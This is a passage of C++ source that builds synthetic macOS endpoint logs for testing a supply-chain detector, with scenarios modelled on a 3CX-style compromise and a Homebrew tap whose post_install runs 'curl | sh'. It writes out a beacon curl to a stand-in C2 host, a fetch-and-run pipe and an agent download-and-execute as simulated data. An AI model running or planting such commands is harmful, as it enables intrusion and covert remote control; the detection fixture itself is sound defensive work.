        ul.add(t + 600 * Ms, 402, updater, updater, QStringLiteral("com.apple.SoftwareUpdate"), QStringLiteral("SU"),
            QStringLiteral("Config data install of 052-41321 (XProtectPayloads 122) finished"),
            QStringLiteral("Config data install of %{public}@ finished"));
        es.exit(tI + 3 * Minute + jitter(20 * Second), installd); // idle exit

        // launchd starts the new XProtect, which starts a remediator.
        const qint64 tRun = t0 + 12 * Minute + jitter(Minute);
        const Proc f2 = es.fork(tRun, launchd);
        const Proc p2 = es.exec(tRun + 2 * Ms, f2, xpcproxy,
            {QStringLiteral("xpcproxy"), QStringLiteral("com.apple.XProtect.daemon.scan")}, QStringLiteral("/"));
        EsLog::Image xp = platformImage(binaries.at(0), QStringLiteral("com.apple.XProtectFramework.XProtect"));
        xp.version = QStringLiteral("122");
        const Proc xprotect = es.exec(tRun + 8 * Ms, p2, xp, {binaries.at(0)}, QStringLiteral("/"));
        const Proc f3 = es.fork(tRun + 400 * Ms, xprotect);
        EsLog::Image rem = platformImage(binaries.at(1), QStringLiteral("com.apple.XProtectFramework.plugins.Adload"));
        rem.version = QStringLiteral("122");
        const Proc remediator
            = es.exec(tRun + 403 * Ms, f3, rem, {binaries.at(1), QStringLiteral("--scan")}, QStringLiteral("/"));
        es.exit(tRun + 9 * Second + jitter(Second), remediator);
        es.exit(tRun + 11 * Second + jitter(Second), xprotect);

        MacScenarioStory s;
        s.label = QStringLiteral("c");
        s.title = QStringLiteral("softwareupdated installs XProtectPayloads 122 from Apple");
        s.host = scenario.host;
        s.installUs = tI / Us;
        s.installerImage = systemInstalld;
        s.installerExecs = {xpcproxy.path, systemInstalld};
        s.installerArgs = {systemInstalld};
        s.actorsBefore = {softwareupdated.token.pid};
        s.package = QStringLiteral("XProtectPayloads");
        s.packageVersion = QStringLiteral("122");
        s.written = binaries;
        s.firstRunImage = binaries.at(0);
        s.firstRunUs = (tRun + 8 * Ms) / Us;
        s.firstRunPlatformBinary = true;
        s.children = {binaries.at(1)};
        s.approvedHostsContacted = {QStringLiteral("swscan.apple.com"), QStringLiteral("swcdn.apple.com")};
        s.expected = MacExpectedChain::NoSuspiciousChain;
        scenario.stories.append(s);
    }

    // ---- (a) 3CX-like: the vendor's updater brings code of another team ----
    {
        const QString bundle = QStringLiteral("/Applications/3CX Desktop App.app/Contents/");
        const QString updaterPath = bundle + QStringLiteral("Frameworks/3CX Updater.app/Contents/MacOS/3CX Updater");
        const QString dylib
            = bundle + QStringLiteral("Frameworks/Electron Framework.framework/Versions/A/Libraries/libffmpeg.dylib");
        const QString agent = bundle + QStringLiteral("MacOS/UpdateAgent");
        const QString gpu = bundle
            + QStringLiteral("Frameworks/3CX Desktop App Helper (GPU).app/Contents/MacOS/3CX Desktop App Helper (GPU)");
        const QString staging
            = QStringLiteral("/private/var/folders/x8/3k9v1l2n4q5c7b8d0f6h2j40000gn/T/com.3cx.desktop.updater/");
        const qint64 tA = t0 + 20 * Minute + jitter(30 * Second);
        const Proc forked = es.fork(tA, oldApp);
        const Proc updater = es.exec(tA + 3 * Ms, forked,
            {updaterPath, QStringLiteral("18.12.416"), QStringLiteral("com.3cx.desktop.updater"), vendorTeam, false,
                DeveloperIdLvFlags},
            {updaterPath, QStringLiteral("--update"),
                QStringLiteral("https://download.3cx.com/electron/production/mac")},
            QStringLiteral("/"), QString(), userEnv);
        ul.lookup(tA + 150 * Ms, updater.token.pid, QStringLiteral("3CX Updater"), QStringLiteral("download.3cx.com"));
        ul.connection(tA + 200 * Ms, updater.token.pid, updaterPath, QStringLiteral("download.3cx.com"),
            QStringLiteral("198.18.30.10"), 443);
        qint64 t = tA + 8 * Second + jitter(2 * Second);
        es.newFile(t, updater, staging + QStringLiteral("libffmpeg.dylib"), 0644, 2712400);
        t += 400 * Ms;
        es.rename(t, updater, staging + QStringLiteral("libffmpeg.dylib"), dylib, true, 0100644, 2712400);
        t += 300 * Ms;
        es.write(t, updater, app, 0100755, 187216);
        es.close(t + 60 * Ms, updater, app, 0100755, 187216);
        t += 400 * Ms;
        es.newFile(t, updater, agent, 0755, 5246880);
        es.exit(t + Second, updater);
        es.exit(t + 2 * Second, oldApp);

        // The user opens the app again.
        const qint64 tRun = t + 2 * Minute + jitter(40 * Second);
        const Proc f2 = es.fork(tRun, launchd);
        const QString service = QStringLiteral("application.com.electron.3cx-desktop-app.%1.%2")
                                    .arg(9000000 + jitter(900000))
                                    .arg(9900000 + jitter(90000));
        const Proc p2
            = es.exec(tRun + 2 * Ms, f2, xpcproxy, {QStringLiteral("xpcproxy"), service}, QStringLiteral("/"));
        Proc launched = p2;
        launched.token.uid = 501;
        launched.token.asid = 100006;
        const Proc newApp = es.exec(tRun + 9 * Ms, launched,
            {app, QStringLiteral("18.12.416"), QStringLiteral("com.electron.3cx-desktop-app"), vendorTeam, false,
                DeveloperIdFlags},
            {app}, QStringLiteral("/"), QString(), userEnv);
        es.mmap(tRun + 140 * Ms, newApp, dylib, 2712400);
        // The GPU helper validates libraries: the kernel refuses the ad-hoc one and the
        // helper dies of it.
        const Proc f3 = es.fork(tRun + 600 * Ms, newApp);
        const Proc helper = es.exec(tRun + 603 * Ms, f3,
            {gpu, QStringLiteral("18.12.416"), QStringLiteral("com.electron.3cx-desktop-app.helper.GPU"), vendorTeam,
                false, DeveloperIdLvFlags},
            {gpu, QStringLiteral("--type=gpu-process"),
                QStringLiteral("--user-data-dir=/Users/maya/Library/Application Support/3CX Desktop App")},
            QStringLiteral("/"), QString(), userEnv);
        ul.add(tRun + 650 * Ms, 0, QStringLiteral("/kernel"),
            QStringLiteral(
                "/System/Library/Extensions/AppleMobileFileIntegrity.kext/Contents/MacOS/AppleMobileFileIntegrity"),
            QString(), QString(),
            QStringLiteral(
                "Library Validation failed: Rejecting '%1' (Team ID: none, platform: no) for process '3CX Desktop App "
                "Helper (GPU)(%2)' (Team ID: %3, platform: no), reason: mapped file has no Team ID and is not a "
                "platform binary (signed with custom identity or adhoc?)")
                .arg(dylib)
                .arg(helper.token.pid)
                .arg(vendorTeam),
            QStringLiteral("Library Validation failed: Rejecting '%s' (Team ID: %s, platform: %s) for process '%s(%d)' "
                           "(Team ID: %s, platform: %s), reason: %s"));
        es.exit(tRun + 700 * Ms, helper, 6); // SIGABRT
        // UpdateAgent: validly signed, by another team.
        const qint64 tAgent = tRun + 20 * Second + jitter(10 * Second);
        const Proc f4 = es.fork(tAgent, newApp);
        const Proc ua = es.exec(tAgent + 3 * Ms, f4,
            {agent, QStringLiteral("1.0"), QStringLiteral("UpdateAgent"), foreignTeam, false, DeveloperIdFlags},
            {agent}, QStringLiteral("/"), QString(), userEnv);
        const QString c2 = QStringLiteral("updates.azureonlinestorage.example");
        const QString c2b = QStringLiteral("cdn.applecloudupdate.example");
        ul.lookup(tAgent + 300 * Ms, ua.token.pid, QStringLiteral("UpdateAgent"), c2);
        ul.connection(tAgent + 350 * Ms, ua.token.pid, agent, c2, QStringLiteral("203.0.113.80"), 443);
        const qint64 tSh = tAgent + 2 * Second + jitter(Second);
        const QString beacon
            = QStringLiteral("curl -fsS -m 20 -A 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)' "
                             "https://%1/v1/ua?h=%2")
                  .arg(c2b)
                  .arg(numberOf(scenario.host + QString::number(options.seed), 0xffffffffLL), 8, 16, QLatin1Char('0'));
        const Proc shFork = es.fork(tSh, ua);
        const Proc sh = shell(
            tSh + 2 * Ms, shFork, {QStringLiteral("/bin/sh"), QStringLiteral("-c"), beacon}, QStringLiteral("/"));
        const Proc curlFork = es.fork(tSh + 20 * Ms, sh);
        QStringList curlArgs = {QStringLiteral("curl"), QStringLiteral("-fsS"), QStringLiteral("-m"),
            QStringLiteral("20"), QStringLiteral("-A"),
            QStringLiteral("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"), beacon.section(u' ', -1)};
        const Proc curl = es.exec(tSh + 23 * Ms, curlFork,
            platformImage(QStringLiteral("/usr/bin/curl"), QStringLiteral("com.apple.curl")), curlArgs,
            QStringLiteral("/"));
        ul.lookup(tSh + 60 * Ms, curl.token.pid, QStringLiteral("curl"), c2b);
        es.exit(tSh + 900 * Ms, curl);
        es.exit(tSh + 910 * Ms, sh);

        MacScenarioStory s;
        s.label = QStringLiteral("a");
        s.title = QStringLiteral("3CX-like: the vendor's updater brings code signed by another team");
        s.host = scenario.host;
        s.installUs = (tA + 3 * Ms) / Us;
        s.installerImage = updaterPath;
        s.installerExecs = {updaterPath};
        s.installerArgs = {updaterPath, QStringLiteral("--update"),
            QStringLiteral("https://download.3cx.com/electron/production/mac")};
        s.installerTeamId = vendorTeam;
        s.actorsBefore = {oldApp.token.pid};
        s.package = QStringLiteral("3CX Desktop App");
        s.packageVersion = QStringLiteral("18.12.416");
        s.written = {dylib, app, agent};
        s.firstRunImage = app;
        s.firstRunUs = (tRun + 9 * Ms) / Us;
        s.firstRunTeamId = vendorTeam;
        s.loadedModule = dylib;
        s.foreignTeamCode = agent;
        s.foreignTeamId = foreignTeam;
        s.children
            = {gpu, agent, QStringLiteral("/bin/sh"), QStringLiteral("/bin/bash"), QStringLiteral("/usr/bin/curl")};
        s.egressHosts = {c2, c2b};
        s.approvedHostsContacted = {QStringLiteral("download.3cx.com")};
        s.expected = MacExpectedChain::Full;
        s.expectedFlags = {QStringLiteral("team_id_not_allowed"), QStringLiteral("unsigned_module"),
            QStringLiteral("host_not_approved"), QStringLiteral("unexpected_child")};
        scenario.stories.append(s);
    }

    // ---- (b) Homebrew from an unlisted tap; the beacon comes too late ----
    {
        const QString ruby = QStringLiteral("/opt/homebrew/Library/Homebrew/vendor/portable-ruby/3.3.4_1/bin/ruby");
        const EsLog::Image rubyImage {ruby, QStringLiteral("3.3.4_1"),
            QStringLiteral("ruby-55554944a5ffc0b11b1a3a6b9c7e3b5c0d9a2f11"), QString(), false, LinkerAdhocFlags};
        const QString formula = QStringLiteral("somevendor/tools/netmon");
        const QString tap = QStringLiteral("somevendor/tools");
        const QString tapDir = QStringLiteral("/opt/homebrew/Library/Taps/somevendor/homebrew-tools");
        const QString cwd = mayaHome;
        const QStringList brewEnv = userEnv + QStringList {QStringLiteral("HOMEBREW_PREFIX=/opt/homebrew")};
        const qint64 tB = t0 + 50 * Minute + jitter(30 * Second);
        const Proc forked = es.fork(tB, zsh);
        const QStringList brewArgs = {
            QStringLiteral("/bin/bash"), QStringLiteral("/opt/homebrew/bin/brew"), QStringLiteral("install"), formula};
        const Proc bash
            = es.exec(tB + 2 * Ms, forked, platformImage(QStringLiteral("/bin/bash"), QStringLiteral("com.apple.bash")),
                brewArgs, cwd, QStringLiteral("/opt/homebrew/bin/brew"), userEnv);
        const QStringList rubyArgs = {ruby, QStringLiteral("-W1"), QStringLiteral("--disable=gems,rubyopt"),
            QStringLiteral("/opt/homebrew/Library/Homebrew/brew.rb"), QStringLiteral("install"), formula};
        const Proc brew = es.exec(tB + 180 * Ms, bash, rubyImage, rubyArgs, cwd, QString(), brewEnv);

        // Tapping: git (the /usr/bin shim, then the Command Line Tools' git) clones the tap.
        qint64 t = tB + 2 * Second + jitter(Second);
        const Proc gitFork = es.fork(t, brew);
        const QStringList gitArgs = {QStringLiteral("git"), QStringLiteral("clone"),
            QStringLiteral("https://github.com/somevendor/homebrew-tools"), tapDir, QStringLiteral("--origin=origin"),
            QStringLiteral("--template="), QStringLiteral("--config"), QStringLiteral("core.fsmonitor=false")};
        const Proc shim = es.exec(t + 2 * Ms, gitFork,
            platformImage(QStringLiteral("/usr/bin/git"), QStringLiteral("com.apple.git")), gitArgs, cwd);
        const Proc git = es.exec(t + 30 * Ms, shim,
            platformImage(
                QStringLiteral("/Library/Developer/CommandLineTools/usr/bin/git"), QStringLiteral("com.apple.git")),
            gitArgs, cwd);
        const Proc remoteFork = es.fork(t + 60 * Ms, git);
        const QString remoteHttps
            = QStringLiteral("/Library/Developer/CommandLineTools/usr/libexec/git-core/git-remote-https");
        const Proc remote
            = es.exec(t + 62 * Ms, remoteFork, platformImage(remoteHttps, QStringLiteral("com.apple.git-remote-https")),
                {QStringLiteral("git-remote-https"), QStringLiteral("origin"),
                    QStringLiteral("https://github.com/somevendor/homebrew-tools")},
                cwd);
        ul.lookup(t + 90 * Ms, remote.token.pid, QStringLiteral("git-remote-https"), QStringLiteral("github.com"));
        es.exit(t + 1800 * Ms, remote);
        es.exit(t + 1900 * Ms, git);

        // Fetching the release with curl, unpacking it with tar into a temporary folder,
        // moving the program into the keg.
        t += 3 * Second + jitter(Second);
        const QString cache = mayaHome
            + QStringLiteral("/Library/Caches/Homebrew/downloads/%1--netmon-2.4.1-arm64.tar.gz")
                  .arg(QString::fromLatin1(digest(QStringLiteral("netmon-2.4.1"), QCryptographicHash::Sha256).toHex()));
        const QString url = QStringLiteral(
            "https://github.com/somevendor/homebrew-tools/releases/download/v2.4.1/netmon-2.4.1-arm64.tar.gz");
        const Proc curlFork = es.fork(t, brew);
        const Proc curl = es.exec(t + 2 * Ms, curlFork,
            platformImage(QStringLiteral("/usr/bin/curl"), QStringLiteral("com.apple.curl")),
            {QStringLiteral("/usr/bin/curl"), QStringLiteral("--disable"), QStringLiteral("--cookie"),
                QStringLiteral("/dev/null"), QStringLiteral("--globoff"), QStringLiteral("--show-error"),
                QStringLiteral("--user-agent"),
                QStringLiteral("Homebrew/4.2.12 (Macintosh; arm64 Mac OS X 14.4) curl/8.4.0"),
                QStringLiteral("--header"), QStringLiteral("Accept-Language: en"), QStringLiteral("--fail"),
                QStringLiteral("--progress-bar"), QStringLiteral("--location"), QStringLiteral("--remote-time"),
                QStringLiteral("--output"), cache + QStringLiteral(".incomplete"), url},
            cwd);
        ul.lookup(t + 30 * Ms, curl.token.pid, QStringLiteral("curl"), QStringLiteral("github.com"));
        ul.lookup(
            t + 700 * Ms, curl.token.pid, QStringLiteral("curl"), QStringLiteral("objects.githubusercontent.com"));
        es.newFile(t + 900 * Ms, curl, cache + QStringLiteral(".incomplete"), 0644, 4187392);
        es.exit(t + 2 * Second, curl);
        es.rename(t + 2100 * Ms, brew, cache + QStringLiteral(".incomplete"), cache, false, 0100644, 4187392);
        t += 3 * Second;
        const QString tmp = QStringLiteral("/private/tmp/d20260302-%1-1x9k2q").arg(brew.token.pid);
        const Proc tarFork = es.fork(t, brew);
        const Proc tar = es.exec(t + 2 * Ms, tarFork,
            platformImage(QStringLiteral("/usr/bin/tar"), QStringLiteral("com.apple.tar")),
            {QStringLiteral("tar"), QStringLiteral("--extract"), QStringLiteral("--no-same-owner"),
                QStringLiteral("--file"), cache, QStringLiteral("--directory"), tmp},
            cwd);
        const QString staged = tmp + QStringLiteral("/netmon-2.4.1/bin/netmon");
        es.newFile(t + 40 * Ms, tar, staged, 0755, 9123456);
        es.exit(t + 300 * Ms, tar);
        const QString keg = QStringLiteral("/opt/homebrew/Cellar/netmon/2.4.1/bin/netmon");
        es.rename(t + 600 * Ms, brew, staged, keg, false, 0100755, 9123456);

        // post_install, in a sandboxed child Ruby: the formula pipes a script into sh.
        t += 2 * Second + jitter(Second);
        const Proc postFork = es.fork(t, brew);
        const QString profile = QStringLiteral("/private/tmp/homebrew20260302-%1-3b7k1v.sb").arg(brew.token.pid);
        const QStringList postArgs = {ruby, QStringLiteral("-W1"), QStringLiteral("--disable=gems,rubyopt"),
            QStringLiteral("-I"), QStringLiteral("/opt/homebrew/Library/Homebrew"), QStringLiteral("--"),
            QStringLiteral("/opt/homebrew/Library/Homebrew/postinstall.rb"),
            tapDir + QStringLiteral("/Formula/netmon.rb")};
        const Proc sandbox = es.exec(t + 2 * Ms, postFork,
            platformImage(QStringLiteral("/usr/bin/sandbox-exec"), QStringLiteral("com.apple.sandbox-exec")),
            QStringList {QStringLiteral("/usr/bin/sandbox-exec"), QStringLiteral("-f"), profile} + postArgs, cwd,
            QString(), brewEnv);
        const Proc post = es.exec(t + 8 * Ms, sandbox, rubyImage, postArgs, cwd, QString(), brewEnv);
        const QString scriptUrl
            = QStringLiteral("https://raw.githubusercontent.com/somevendor/homebrew-tools/HEAD/agent/install.sh");
        const QString piped = QStringLiteral("curl -fsSL %1 | sh").arg(scriptUrl);
        t += 600 * Ms;
        const Proc outerFork = es.fork(t, post);
        const Proc outer = shell(t + 2 * Ms, outerFork, {QStringLiteral("/bin/sh"), QStringLiteral("-c"), piped}, cwd);
        const Proc fetchFork = es.fork(t + 20 * Ms, outer);
        const Proc fetch = es.exec(t + 22 * Ms, fetchFork,
            platformImage(QStringLiteral("/usr/bin/curl"), QStringLiteral("com.apple.curl")),
            {QStringLiteral("curl"), QStringLiteral("-fsSL"), scriptUrl}, cwd);
        ul.lookup(t + 50 * Ms, fetch.token.pid, QStringLiteral("curl"), QStringLiteral("raw.githubusercontent.com"));
        const Proc innerFork = es.fork(t + 24 * Ms, outer);
        const Proc inner = shell(t + 26 * Ms, innerFork, {QStringLiteral("sh")}, cwd);
        es.exit(t + 400 * Ms, fetch);
        // The script: mkdir, download the agent, chmod, start it.
        const QString agentDir = QStringLiteral("/opt/homebrew/lib/netmon");
        const QString agent = agentDir + QStringLiteral("/netmon-agent");
        const QString agentUrl
            = QStringLiteral("https://objects.githubusercontent.com/github-production-release-asset-2e65be/"
                             "611827431/netmon-agent-darwin-arm64");
        qint64 s = t + 500 * Ms;
        const auto run = [&](qint64 at, const QString &path, const QString &id, const QStringList &args) {
            const Proc f = es.fork(at, inner);
            const Proc p = es.exec(at + 2 * Ms, f, platformImage(path, id), args, cwd);
            return p;
        };
        const Proc mkdir = run(s, QStringLiteral("/bin/mkdir"), QStringLiteral("com.apple.mkdir"),
            {QStringLiteral("mkdir"), QStringLiteral("-p"), agentDir});
        es.exit(s + 10 * Ms, mkdir);
        s += 40 * Ms;
        const Proc download = run(s, QStringLiteral("/usr/bin/curl"), QStringLiteral("com.apple.curl"),
            {QStringLiteral("curl"), QStringLiteral("-fsSL"), QStringLiteral("-o"), agent, agentUrl});
        ul.lookup(
            s + 30 * Ms, download.token.pid, QStringLiteral("curl"), QStringLiteral("objects.githubusercontent.com"));
        es.newFile(s + 400 * Ms, download, agent, 0644, 7340032);
        es.exit(s + 1500 * Ms, download);
        s += 1600 * Ms;
        const Proc chmod = run(s, QStringLiteral("/bin/chmod"), QStringLiteral("com.apple.chmod"),
            {QStringLiteral("chmod"), QStringLiteral("+x"), agent});
        es.exit(s + 8 * Ms, chmod);
        s += 30 * Ms;
        const Proc agentFork = es.fork(s, inner);
        const EsLog::Image agentImage {agent, QStringLiteral("0.9.3"),
            QStringLiteral("netmon-agent-5555494433b1c2e7a4f93d1e8b6c0a2f7d5e9b31"), QString(), false,
            LinkerAdhocFlags};
        const Proc netmon = es.exec(s + 2 * Ms, agentFork, agentImage, {agent, QStringLiteral("--daemon")}, cwd);
        const qint64 tFirst = s + 2 * Ms;
        es.exit(s + 50 * Ms, inner);
        es.exit(s + 60 * Ms, outer);
        es.exit(s + 400 * Ms, post);
        es.exit(s + 1200 * Ms, brew);
        // The agent surveys the host at once ...
        const qint64 tSurvey = tFirst + 3 * Second + jitter(2 * Second);
        const Proc surveyFork = es.fork(tSurvey, netmon);
        const Proc survey = shell(tSurvey + 2 * Ms, surveyFork,
            {QStringLiteral("/bin/sh"), QStringLiteral("-c"), QStringLiteral("sw_vers; id -un")}, cwd);
        const Proc swFork = es.fork(tSurvey + 20 * Ms, survey);
        const Proc swVers = es.exec(tSurvey + 22 * Ms, swFork,
            platformImage(QStringLiteral("/usr/bin/sw_vers"), QStringLiteral("com.apple.sw_vers")),
            {QStringLiteral("sw_vers")}, cwd);
        es.exit(tSurvey + 60 * Ms, swVers);
        const Proc idFork = es.fork(tSurvey + 70 * Ms, survey);
        const Proc id = es.exec(tSurvey + 72 * Ms, idFork,
            platformImage(QStringLiteral("/usr/bin/id"), QStringLiteral("com.apple.id")),
            {QStringLiteral("id"), QStringLiteral("-un")}, cwd);
        es.exit(tSurvey + 90 * Ms, id);
        es.exit(tSurvey + 100 * Ms, survey);
        // ... and calls home after its dormancy, long after the window.
        const qint64 late = 3 * Hour + 12 * Minute + jitter(Minute);
        const QString home = QStringLiteral("telemetry.netmon-cdn.example");
        ul.lookup(tB + late, netmon.token.pid, QStringLiteral("netmon-agent"), home);

        MacScenarioStory st;
        st.label = QStringLiteral("b");
        st.title = QStringLiteral("brew install from an unlisted tap; its post_install pipes curl into sh");
        st.host = scenario.host;
        st.installUs = (tB + 2 * Ms) / Us;
        st.installerImage = QStringLiteral("/opt/homebrew/bin/brew");
        st.installerExecs = {QStringLiteral("/bin/bash"), ruby};
        st.installerArgs = brewArgs;
        st.actorsBefore = {zsh.token.pid};
        st.tap = tap;
        st.package = QStringLiteral("netmon");
        st.packageVersion = QStringLiteral("2.4.1");
        st.written = {keg, agent};
        st.firstRunImage = agent;
        st.firstRunUs = tFirst / Us;
        st.children = {QStringLiteral("/bin/sh"), QStringLiteral("/bin/bash"), QStringLiteral("/usr/bin/sw_vers"),
            QStringLiteral("/usr/bin/id")};
        st.approvedHostsContacted = {QStringLiteral("github.com"), QStringLiteral("objects.githubusercontent.com"),
            QStringLiteral("raw.githubusercontent.com")};
        st.lateEgressHost = home;
        st.lateEgressAfterUs = (late - 2 * Ms) / Us;
        st.expected = MacExpectedChain::Partial;
        st.expectedFlags = {QStringLiteral("tap_not_approved"), QStringLiteral("unexpected_child")};
        st.missingStages = {QStringLiteral("egress")};
        scenario.stories.append(st);
    }

    // Stories in label order, files in the order an analyst lists them.
    std::sort(scenario.stories.begin(), scenario.stories.end(),
        [](const MacScenarioStory &a, const MacScenarioStory &b) { return a.label < b.label; });
    const QString prefix = scenario.hostShort.toLower();
    scenario.files = {{prefix + QLatin1String(MacEsloggerSuffix), es.text()},
        {prefix + QLatin1String(MacUnifiedLogSuffix), ul.text()},
        {prefix + QLatin1String(MacInstallLogSuffix), install.text()}};
    return scenario;
}

MacScenarioFiles writeMacScenario(const QString &dir, const MacScenario &scenario)
{
    MacScenarioFiles result;
    for (const MacScenario::File &f : scenario.files) {
        const QString path = QDir(dir).absoluteFilePath(f.fileName);
        QString error;
        if (!writeOutputFile(path, f.content, &error)) {
            result.error = QStringLiteral("cannot write %1: %2").arg(path, error);
            return result;
        }
        result.files.append(path);
    }
    return result;
}

} // namespace Chainscope
